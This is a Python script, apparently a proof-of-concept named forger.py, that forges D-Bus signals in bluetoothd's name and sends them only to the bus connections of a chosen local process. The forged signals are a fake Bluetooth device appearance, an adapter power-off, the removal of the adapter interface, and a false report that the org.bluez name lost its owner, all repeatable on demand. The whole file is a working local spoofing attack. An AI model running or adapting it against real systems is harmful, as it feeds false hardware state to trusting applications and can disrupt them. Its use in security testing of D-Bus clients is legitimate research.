# SPDX-License-Identifier: Apache-2.0
"""A local user who speaks in bluetoothd's name: `forger.py PID WHAT [TIMES]`, to that process's connection alone."""

import sys

import dbus
import dbus.lowlevel

PROPERTIES = "org.freedesktop.DBus.Properties"
DEVICE = "/org/bluez/hci0/dev_02_4E_43_00_00_EE"
DONGLES = "4f37d906-3f43-440c-98e0-9e709971cadf"


def report():
    data = dbus.Dictionary({dbus.UInt16(0xFFFF): dbus.Array(bytes.fromhex("024e430000ee"), signature="y",
                                                            variant_level=1)}, signature="qv", variant_level=1)
    return DEVICE, PROPERTIES, "PropertiesChanged", "sa{sv}as", (
        "org.bluez.Device1",
        {"RSSI": dbus.Int16(-30, variant_level=1), "ManufacturerData": data,
         "UUIDs": dbus.Array([DONGLES], signature="s", variant_level=1)},
        [])


def power():
    return "/org/bluez/hci0", PROPERTIES, "PropertiesChanged", "sa{sv}as", (
        "org.bluez.Adapter1", {"Powered": dbus.Boolean(False, variant_level=1)}, [])


def removal():
    return "/", "org.freedesktop.DBus.ObjectManager", "InterfacesRemoved", "oas", (
        dbus.ObjectPath("/org/bluez/hci0"), ["org.bluez.Adapter1"])


def owner():
    return "/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged", "sss", ("org.bluez", ":1.0", "")


def connections_of(bus, process):
    driver = bus.get_object("org.freedesktop.DBus", "/org/freedesktop/DBus", introspect=False)
    driver = dbus.Interface(driver, "org.freedesktop.DBus")
    return [name for name in driver.ListNames()
            if name.startswith(":") and driver.GetConnectionUnixProcessID(name) == process]


def main(process, what, times=1):
    bus = dbus.SystemBus(private=True)
    victims = connections_of(bus, int(process))
    path, interface, member, signature, arguments = globals()[what]()
    for victim in victims * int(times):
        message = dbus.lowlevel.SignalMessage(path, interface, member)
        message.append(*arguments, signature=signature)
        message.set_destination(victim)
        bus.send_message(message)
    bus.flush()
    print(f"{len(victims) * int(times)} sent")


if __name__ == "__main__":
    main(*sys.argv[1:])
